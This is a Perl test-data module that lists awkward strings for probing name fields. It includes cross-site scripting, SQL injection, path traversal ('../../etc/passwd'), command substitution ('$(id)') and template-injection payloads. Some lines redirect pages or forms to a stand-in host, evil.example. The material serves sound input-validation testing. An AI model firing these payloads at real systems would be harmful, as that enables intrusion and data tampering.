package Referral::Texts;

# Texts that somebody somewhere got wrong: strings, each valid as a name.
#
#   Referral::Texts::texts();      # for whatever reads JSON, CSV, a terminal
#   Referral::Texts::markup();     # what a page would run: it sets "hacked"

use strict;
use warnings;
use utf8;


sub texts {
    return (q("), q('), q(\\), q(\\"), q(\\u0041), q(\\\\u0000), '/', '//',
        'undefined', 'null', 'NaN', 'true', '1e400', '-0', '0x1F', '1/0',
        '<script>alert(1)</script>', '</script><b>', '<!--', ']]>',
        '&lt;b&gt;', '"><img src=x onerror=alert(1)>', q(' OR 1=1 -- 1),
        '${1+1}', '{{7*7}}', '%s%n%x', '%00', '../../etc/passwd', '$(id)',
        '`id`', '=1+1', '+1', '-1', '@A1', "＝1", 'a,b', 'a;b', 'a|b',
        "a\x{a0}b", "\x{85}x", "\x{9f}x", "\x{2028}", "\x{2029}",
        "a\x{200b}b", "\x{202e}txt.exe", "\x{feff}a", "\x{fffd}", "\x{ffff}",
        "\x{fffe}", "\x{e000}", "\x{10ffff}", "\x{10fffe}",
        "\x{1f600}\x{1f3fd}",
        "\x{1f468}\x{200d}\x{1f469}\x{200d}\x{1f467}", "e\x{301}", "\x{e9}",
        'Ω≈ç√∫', 'ЁЂЃ', '田中さん', 'اَلْعَرَبِيَّةُ', 'הָיְתָה',
        "Z\x{351}\x{36b}\x{343}algo", "ﷺ", "İıſK", 'x' x 128,
        "\x{1f600}" x 32);
}


sub markup {
    return ('<script>hacked=1</script>', '<img src=x onerror=hacked=2>',
        '"><svg onload=hacked=3>', q('><img src=x onerror='hacked=4'>),
        '" onfocus="hacked=5" autofocus="', q(' onmouseover='hacked=6' x='),
        'javascript:hacked=7', '</title><script>hacked=8</script>',
        '</textarea><script>hacked=9</script>', '--><script>hacked=10</script>',
        '<iframe srcdoc="<script>parent.hacked=11</script>">',
        '<style>*{display:none}</style>', '<base href="//evil.example/">',
        '<meta http-equiv="refresh" content="0;url=//evil.example/">',
        '${hacked=12}', '{{constructor.constructor("hacked=13")()}}',
        '<a href="javascript:hacked=14">x</a>',
        '<form action="//evil.example">', '__proto__', 'constructor',
        '&#60;script&#62;hacked=15&#60;/script&#62;',
        '\\u003cscript\\u003ehacked=16', "<scr\x{0131}pt>hacked=17</script>");
}


1;
